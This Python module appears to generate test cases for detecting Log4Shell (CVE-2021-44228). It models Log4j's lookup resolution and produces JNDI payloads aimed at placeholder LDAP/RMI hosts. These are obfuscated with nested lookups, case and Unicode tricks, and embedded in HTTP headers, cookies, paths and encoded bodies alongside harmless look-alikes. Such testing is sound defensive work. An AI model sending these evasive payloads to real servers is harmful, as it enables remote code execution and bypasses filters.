# SPDX-License-Identifier: Apache-2.0
"""CVE-2021-44228: texts that Log4j 2 looks up in what it logs."""
import dataclasses
import json

import web
from mutant import CLIENT, EITHER, HOLE, SAFE, SERVER, Mutant, any_case, name

TRANSPORT = "tcp"
DEEPEST = 64            # stated in the patch's checks


@dataclasses.dataclass
class Request:
    """The texts of a request as the application logs them."""
    texts: list


class Jndi(Exception):
    """A lookup of JNDI was made."""


def date(pattern):
    """Quoted letters of a SimpleDateFormat are literal; what the others give does not matter here."""
    parts = pattern.split("'")
    return "".join(part if at % 2 else "".join("7" if c.isalpha() else c for c in part) for at, part in enumerate(parts))


def looked_up(variable, safe_name):
    """Interpolator: what stands before the first colon names the lookup, in any case."""
    prefix, colon, key = variable.partition(":")
    if not colon:
        return None
    kind = prefix.lower()
    if kind == safe_name:
        raise Jndi(key)
    values = {"lower": key.lower, "upper": key.upper, "date": lambda: date(key)}
    return values[kind]() if kind in values else None   # env, sys and the others: not set


def end_of(text, at):
    """Where the variable that begins at `at` is closed; each ${ within needs a brace of its own."""
    open_ones = 0
    while at < len(text):
        if text.startswith("${", at):
            open_ones += 1
            at += 2
            continue
        if text[at] == "}":
            if not open_ones:
                return at
            open_ones -= 1
        at += 1
    return -1


def substituted(text, kind="jndi"):
    """StrSubstitutor.substitute: names are substituted before they are looked up, and values once more."""
    at = 0
    while (at := text.find("${", at)) >= 0:
        end = end_of(text, at + 2)
        if end < 0:         # nor is what stands within looked up
            return text
        variable, default_sign, default = substituted(text[at + 2:end], kind).partition(":-")
        value = looked_up(variable, kind)
        if value is None and default_sign:
            value = default
        if value is None:
            at = end + 1
            continue
        value = substituted(value, kind)
        text = text[:at] + value + text[end + 1:]
        at += len(value)
    return text


def judged(text, kind):
    if "$${" in text:       # an escape, which is taken away: a second pass would resolve it
        return EITHER if judged(text.replace("$${", "${"), kind) != SAFE else SAFE
    depth = deepest = 0
    for at in range(len(text)):
        depth += text.startswith("${", at) - (text[at] == "}" and depth > 0)
        deepest = max(deepest, depth)
    try:
        substituted(text, kind)
    except Jndi as found:
        return HOLE if ":" in str(found) else EITHER
    if deepest > DEEPEST:
        return EITHER
    try:        # a text of the log behind it may bring the braces that are missing
        substituted(text + "}" * depth, kind)
    except Jndi:
        return EITHER
    return SAFE


def verdict(message, moved=0):
    """Log4j 2.0-beta9 to 2.14.1 resolves ${...} in what it logs (logging.apache.org/security.html), as StrSubstitutor
    and Interpolator do (github.com/apache/logging-log4j2, log4j-core, core/lookup): a lookup jndi: is the hole. A
    name without a colon is looked for in the application's own context (JndiLookup), which is no one's server.
    """
    verdicts = [judged(text, "jndi"[:4 - moved]) for text in message.texts]
    return HOLE if HOLE in verdicts else EITHER if EITHER in verdicts else SAFE


def hidden(random, text, depth):
    """A text as lookups that yield it."""
    if depth <= 0:
        return text
    if len(text) > 1 and random.random() < 0.6:
        cut = random.randrange(1, len(text))
        return hidden(random, text[:cut], depth - 1) + hidden(random, text[cut:], depth - 1)
    inner = hidden(random, text, depth - 1)
    ways = ["${::-%s}", "${:-%s}", "${env:" + name(random, 5) + ":-%s}", "${sys:" + name(random, 3) + ":-%s}", "${x:y:-%s}"]
    if not any(c in text for c in ":$}") and text.lower() == text:
        ways += ["${lower:%s}", "${" + any_case(random, "lower") + ":%s}", "${lower:${upper:%s}}"]
    if text.isalpha() and inner == text:
        ways.append("${date:'%s'}")
    return random.choice(ways) % inner


def attack(random):
    word = any_case(random, "jndi") if random.random() < 0.3 else "jndi"
    service = random.choice(("ldap", "ldaps", "rmi", "dns", "iiop", "nis", "corba"))
    depth = random.choice((0, 0, 1, 2, 3, 4))
    begin = hidden(random, word + ":", depth) if word == "jndi" else word + ":"
    if word == "jndi" and random.random() < 0.1:    # the upper case of a dotless i is I
        begin = "jnd${upper:\u0131}:"
    target = f"{hidden(random, service, random.choice((0, 0, 1, 2)))}://{random.choice(('198.51.100.7', '127.0.0.1#x', '[2001:db8::7]'))}:1389/a"
    text = "${" + begin + target + "}"
    if random.random() < 0.2:
        text = random.choice(("${lower:%s}", "${env:A:-%s}", "x${%s}y", "${date:%s}", "${a${b}:-%s}")) % text
    return text


def look_alike(random):
    word = hidden(random, random.choice(("jnd", "jndx", "ndi", "jndii", "ldap", " jndi", "java")) + ":", random.choice((0, 1, 2)))
    host = "ldap://198.51.100.7:1389/a"
    return random.choice((
        "${" + word + host + "}", "{jndi:" + host + "}", "$ {jndi:" + host + "}", "$jndi:" + host, "${jndi}", "${jndi:-" + host + "}",
        "${lower:jndi:" + host + "}", "${::-jndi:" + host + "}", "#{jndi:" + host + "}", "%{jndi:" + host + "}", "${env:HOME}",
        "${jndi-" + host + "}", "${date:jndi:" + host + "}", "jndi:" + host, "price $5 {a}", "${${env:X}jndi:" + host + "}",
        "${j${::-n}d${::-}i:-" + host + "}", "${${lower:x}jndi:" + host + "}", "${env:jndi:" + host + "}", "${" * 3 + "}" * 3))


def odd(random):
    host = "ldap://198.51.100.7/a"
    return random.choice(("${jndi:" + host, "$${jndi:" + host + "}", "${jndi:name}", "${jndi:}", "${" * 70 + "jndi:" + host + "}" * 70))


def text_of(random):
    kind = random.random()
    text = attack(random) if kind < 0.5 else look_alike(random) if kind < 0.95 else odd(random)
    return name(random, random.choice((0, 0, 3, 300))) + text + name(random, random.choice((0, 0, 3, 300)))


def in_body(random, text):
    """A body that carries the text, and how it is said."""
    form = random.choice(("text", "json", "form", "gzip", "chunked"))
    if form == "json":
        inside = "".join(f"\\u{ord(c):04x}" if random.random() < 0.3 else json.dumps(c)[1:-1] for c in text)
        return [("Content-Type", "application/json")], ('{"user": "%s"}' % inside).encode(), form
    if form == "form":
        return [("Content-Type", "application/x-www-form-urlencoded")], f"a=1&user={web.percent(text, random)}".encode(), form
    if form == "gzip":
        return [("Content-Type", "text/plain"), ("Content-Encoding", "gzip")], web.packed(text.encode()), form
    if form == "chunked":
        return [("Content-Type", "text/plain"), ("Transfer-Encoding", "chunked")], web.chunked(text.encode(), random.choice((1, 7, 1000))), form
    return [("Content-Type", "text/plain")], text.encode(), form


def mutant(random):
    text = text_of(random)
    places = ("path", "query", "double", "body", "body", "body")    # where servers read UTF-8
    place = random.choice(places if not text.isascii() else places + ("header", "cookie", "agent"))
    method, target, headers, body = "GET", "/", [("Accept", "*/*")], b""
    if place in ("path", "query"):
        share = random.choice((0.2, 1))
        target = ("/" if place == "path" else "/search?q=") + web.percent(text, random, share).replace("#", "%23").replace("?", "%3f")
    elif place == "double":
        target = "/search?q=" + web.percent(web.percent(text, random), random)
    elif place == "body":
        more, body, place = in_body(random, text)
        method, headers = "POST", headers + more
    else:
        headers.append(({"header": random.choice(("X-Api-Version", "Referer", "X-Forwarded-For", "Authorization")), "cookie": "Cookie", "agent": "User-Agent"}[place],
                        "a=" + text if place == "cookie" else text))
    if place == "chunked":
        says = [(CLIENT, web.request(method, target, headers) + body)]
    else:
        says = [(CLIENT, web.request(method, target, headers, body))]
    if random.random() < 0.3:
        says = [(CLIENT, web.request("GET", "/index.html")), (SERVER, web.ANSWER)] + says
    return Mutant(Request([text]), says, f"{place}: {text}", random.choice((80, 8080)))
